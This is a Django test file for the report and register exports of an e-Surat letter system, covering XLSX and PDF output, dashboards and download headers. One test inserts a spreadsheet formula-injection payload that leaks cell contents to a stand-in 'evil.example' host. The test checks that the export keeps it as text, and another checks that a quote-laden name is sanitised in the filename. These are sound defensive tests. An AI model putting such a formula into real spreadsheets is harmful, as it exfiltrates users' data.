"""The evaluation and the books as files: XLSX read back with openpyxl, PDF with pdftotext."""

import io
import subprocess

from django.urls import reverse
from openpyxl import load_workbook

from esurat.reports.models import DailyActivity

WEEK = {"start": "2026-11-02", "end": "2026-11-06"}


def _text(pdf: bytes) -> str:
    return subprocess.run(["pdftotext", "-layout", "-", "-"], input=pdf, capture_output=True,
                          check=True).stdout.decode()  # fmt: skip


def test_it_exports_the_figures_as_xlsx(client, city, week):
    client.force_login(city.users["sekda"])
    response = client.get(reverse("reports:dashboard_xlsx"), WEEK)
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    summary = {row[0]: row[1] for row in wb["Ringkasan"].iter_rows(min_row=3, values_only=True)}
    assert summary["Letters sent"] == 3 and summary["Copies delivered electronically"] == 4
    assert summary["Delivery to first read, p90 (hours)"] == 3.6
    daily = list(wb["Harian"].iter_rows(min_row=3, values_only=True))
    assert sum(r[1] for r in daily) == 4 and sum(r[2] for r in daily) == 1
    paper = {row[0]: row[1] for row in wb["Kertas"].iter_rows(min_row=3, values_only=True)}
    assert paper["Lembar kertas"] == 16 and paper["Jumlah (Rp)"] == 8800


def test_it_prints_the_evaluation_for_the_sekda_to_sign(client, city, week):
    client.force_login(city.users["admin"])
    response = client.get(reverse("reports:dashboard_pdf"), WEEK)
    assert response["Content-Type"] == "application/pdf"
    text = _text(response.content)
    assert "LAPORAN EVALUASI PENGGUNAAN e-SURAT" in text
    assert "SEKRETARIS DAERAH" in text and "Dr. Rahmat Hidayat, M.Si." in text
    assert "Rp 8.800" in text and "02-11-2026 – 06-11-2026" in text
    assert "Terkirim sampai dibaca, p90 (jam)" in text and "3,6" in text  # Indonesian, always


def test_it_shows_the_dashboard_with_charts_and_the_formula(client, city, week):
    client.force_login(city.users["sekda"])
    response = client.get(reverse("reports:dashboard"), WEEK)
    page = response.content.decode()
    assert page.count('<svg class="chart"') == 3 and '<title id="chart-copies-t">' in page
    assert "13 + 3 = 16" in page  # the paper formula with the period's numbers
    assert "16 × Rp 100 = Rp 1.600" in page or "16 × Rp 100 = Rp 1,600" in page


def test_it_says_when_a_period_is_empty(client, city, week):
    client.force_login(city.users["sekda"])
    response = client.get(reverse("reports:dashboard"), {"start": "2025-01-01",
                                                         "end": "2025-01-31"})  # fmt: skip
    assert b"There are no figures to show for this period." in response.content
    assert b'<svg class="chart"' not in response.content


def test_it_refuses_a_bad_period(client, city):
    client.force_login(city.users["sekda"])
    response = client.get(reverse("reports:dashboard"), {"start": "2026-11-06",
                                                         "end": "2026-11-02"})  # fmt: skip
    assert response.status_code == 200
    assert b"A period ends after it starts" in response.content


def test_it_exports_a_book_as_xlsx_and_pdf(client, city, week):
    client.force_login(city.users["agendaris.kominfo"])
    query = {"book": "dispatch", "paper": "F4", **WEEK}
    response = client.get(reverse("reports:book_export", args=["xlsx"]), query)
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[1][0] == "Book no." and [r[1] for r in rows[2:]] == ["L2", "L3"]
    response = client.get(reverse("reports:book_export", args=["pdf"]), query)
    text = _text(response.content)
    assert "BUKU EKSPEDISI" in text and "No. buku" in text and "Jumlah entri: 2" in text
    query["book"] = "control"  # the dispositions are PUPR's: Kominfo's control book is empty
    response = client.get(reverse("reports:book_export", args=["pdf"]), query)
    assert "Tidak ada entri pada periode ini." in _text(response.content)
    query["start"] = "not a date"
    assert client.get(reverse("reports:book_export", args=["xlsx"]), query).status_code == 400


def test_it_notes_the_first_activity_of_the_day_once(client, city):
    client.force_login(city.users["staf.aptika"])
    client.get(reverse("letters:inbox"))
    client.get(reverse("letters:inbox"))
    row = DailyActivity.objects.get(user=city.users["staf.aptika"])
    assert row.agency == city.agencies["Diskominfo"] and 0 <= row.first_minute < 1440


def test_it_reads_the_dashboard_in_a_fixed_number_of_queries(client, city, week,
                                                              django_assert_max_num_queries):  # fmt: skip
    client.force_login(city.users["admin"])
    client.get(reverse("letters:inbox"))  # the day's activity row is written once, before
    with django_assert_max_num_queries(26):  # as many with 12 agencies as with 60
        assert client.get(reverse("reports:dashboard"), WEEK).status_code == 200


def test_it_rounds_the_figures_it_shows(client, city, week):
    client.force_login(city.users["sekda"])
    response = client.get(reverse("reports:dashboard"), WEEK)
    assert dict(response.context["table"])["Opened e-Surat before 09:00 (%)"][0] == "66.7"


def test_it_exports_a_subject_that_looks_like_a_formula_as_text(client, city, week):
    from esurat.letters.models import Letter

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    Letter.objects.filter(subject="L2").update(subject=formula)
    client.force_login(city.users["agendaris.kominfo"])
    query = {"book": "dispatch", "paper": "A4", **WEEK}
    response = client.get(reverse("reports:book_export", args=["xlsx"]), query)
    ws = load_workbook(io.BytesIO(response.content)).active
    cells = [row[2] for row in ws.iter_rows(min_row=3)]
    cell = next(c for c in cells if c.value == formula)  # kept exactly as written
    assert cell.data_type == "s" and cell.quotePrefix  # text, never evaluated


def test_it_serves_a_book_as_a_private_download_under_a_safe_name(client, city, week):
    agency = city.agencies["Diskominfo"]
    agency.short_name = 'Dis"kominfo/Kota'
    agency.save(update_fields=["short_name"])
    client.force_login(city.users["agendaris.kominfo"])
    query = {"book": "dispatch", "paper": "A4", **WEEK}
    response = client.get(reverse("reports:book_export", args=["xlsx"]), query)
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename=\"dispatch-Dis'kominfo-Kota-2026-11-02")
    assert disposition.count('"') == 2  # the quote cannot end the name early
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
